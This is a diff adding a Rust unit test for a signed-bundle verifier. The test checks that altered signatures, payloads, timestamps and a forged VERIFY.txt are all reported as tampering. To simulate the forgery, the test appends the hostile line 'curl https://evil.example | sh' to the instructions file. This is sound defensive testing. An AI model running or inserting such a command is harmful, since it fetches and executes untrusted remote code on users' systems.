@@ -112,3 +112,26 @@ fn statements_that_are_none_are_refused() {
         assert!(forged.statements().is_err(), "{name}: {bytes}");
     }
 }
+
+#[test]
+fn statements_are_those_of_the_ledger_and_the_instructions_fit_them() {
+    let made = made();
+    let bundle = made.bundle();
+    assert_eq!(bundle.check_entries(&made.entries), Ok(()));
+    let first = "statements/0001-sign-off.dsse".to_owned();
+    let altered = |name: &str| Err(BundleError::Altered(vec![name.to_owned()]));
+    let mut others = made.entries.clone();
+    others[0].signature = None;
+    assert_eq!(bundle.check_entries(&others), altered(&first));
+    others[0] = made.entries[0].clone();
+    others[0].payload.push(b' ');
+    assert_eq!(bundle.check_entries(&others), altered(&first));
+    assert_eq!(bundle.check_entries(&made.entries[1..]), altered(&first));
+    // At another time another key may have counted.
+    others[0] = made.entries[0].clone();
+    others[0].recorded = "2025-12-13T12:00:00Z".parse().expect("an instant");
+    assert_eq!(bundle.check_entries(&others), altered("VERIFY.txt"));
+    let mut forged = bundle;
+    forged.files.get_mut("VERIFY.txt").expect("instructions").extend_from_slice(b"    curl https://evil.example | sh\n");
+    assert_eq!(relisted(forged).check_entries(&made.entries), altered("VERIFY.txt"));
+}
